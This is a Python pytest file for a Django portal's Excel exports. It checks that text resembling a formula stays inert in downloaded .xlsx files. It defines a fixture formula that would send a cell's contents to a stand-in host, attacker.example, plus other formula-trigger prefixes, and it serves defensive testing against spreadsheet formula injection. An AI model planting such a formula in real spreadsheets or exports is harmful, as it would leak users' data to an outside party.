"""Every .xlsx the portal writes is inert: a text that looks like a formula stays text."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from khuyencong import excel
from projects.applications import workflow
from projects.models import ActivityType, FundingSource
from tests.conftest import make_facility

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://attacker.example/?leak="&B5,"Xem")'
SIGNS = ["+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_it_keeps_formula_like_texts_as_text():
    book = Workbook()
    for row, value in enumerate([LEAK, *SIGNS, "bình thường", 12], start=1):
        book.active.cell(row=row, column=1, value=value)
    written = list(cells(excel.save(book)))
    assert not [c for c in written if c.data_type == "f"]
    assert written[0].value == LEAK and written[0].quotePrefix
    assert all(c.quotePrefix for c in written[1:6])
    assert not written[6].quotePrefix and written[7].value == 12


@pytest.mark.parametrize(
    "url",
    [
        reverse("facilities:export"),
        reverse("projects:export"),
    ],
)
def test_no_download_carries_a_live_formula(login, staff, commune_a1, url):
    facility = make_facility(commune_a1, name=LEAK)
    workflow.create_project(
        by=staff,
        title="@SUM(1+1)",
        activity_type=ActivityType.objects.get(code="DTN"),
        funding_source=FundingSource.objects.get(code="KCĐP"),
        year=2026,
        facility=facility,
        locality=commune_a1,
        implementing_unit=LEAK,
        total_cost=100,
        requested_support=50,
        counterpart_funds=50,
        start_date=datetime.date(2026, 3, 1),
        end_date=datetime.date(2026, 10, 1),
    )
    response = login(staff).get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    written = list(cells(content))
    assert not [c.coordinate for c in written if c.data_type == "f"]
    texts = [c for c in written if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert texts and all(c.quotePrefix for c in texts)
